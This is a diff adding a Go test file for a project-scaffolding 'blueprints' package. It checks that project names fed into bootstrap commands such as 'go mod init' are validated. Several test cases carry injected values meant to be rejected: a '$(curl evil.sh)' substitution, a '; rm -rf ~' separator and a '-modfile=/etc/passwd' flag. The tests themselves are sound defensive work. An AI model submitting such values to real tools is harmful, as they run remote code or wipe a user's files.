@@ -0,0 +1,65 @@
+package blueprints
+
+import (
+	goerrors "errors"
+	"testing"
+
+	"github.com/zachwalton/devoid/pkg/errors"
+)
+
+func TestGet(t *testing.T) {
+	lib, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name      string
+		blueprint string
+		project   string
+		bootstrap string
+		wantErr   error
+	}{
+		{name: "plain name", blueprint: "go-cli", project: "todo", bootstrap: "go mod init todo"},
+		{name: "module path", blueprint: "go-cli", project: "github.com/me/todo-app", bootstrap: "go mod init github.com/me/todo-app"},
+		{name: "unknown blueprint", blueprint: "cobol-batch", project: "todo", wantErr: errors.ErrUnknownBlueprint},
+		{name: "empty name", blueprint: "go-cli", wantErr: errors.ErrInvalidName},
+		{name: "command substitution", blueprint: "go-cli", project: "todo$(curl evil.sh)", wantErr: errors.ErrInvalidName},
+		{name: "command separator", blueprint: "go-cli", project: "todo; rm -rf ~", wantErr: errors.ErrInvalidName},
+		{name: "flag", blueprint: "go-cli", project: "-modfile=/etc/passwd", wantErr: errors.ErrInvalidName},
+		{name: "quote", blueprint: "go-cli", project: "todo'", wantErr: errors.ErrInvalidName},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			bp, err := lib.Get(tt.blueprint, tt.project)
+			if tt.wantErr != nil {
+				if !goerrors.Is(err, tt.wantErr) {
+					t.Errorf("Get(%q, %q) error = %v, want %v", tt.blueprint, tt.project, err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(bp.Bootstrap) == 0 || bp.Bootstrap[0] != tt.bootstrap {
+				t.Errorf("Get(%q, %q) bootstrap = %q, want it to start with %q", tt.blueprint, tt.project, bp.Bootstrap, tt.bootstrap)
+			}
+		})
+	}
+}
+
+func TestPackage(t *testing.T) {
+	lib, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	bp, err := lib.Get("go-cli", "github.com/me/todo-app")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range bp.Layout {
+		if f.Path == "pkg/todo_app/todo_app.go" {
+			return
+		}
+	}
+	t.Errorf("Get() layout = %+v, want pkg/todo_app/todo_app.go", bp.Layout)
+}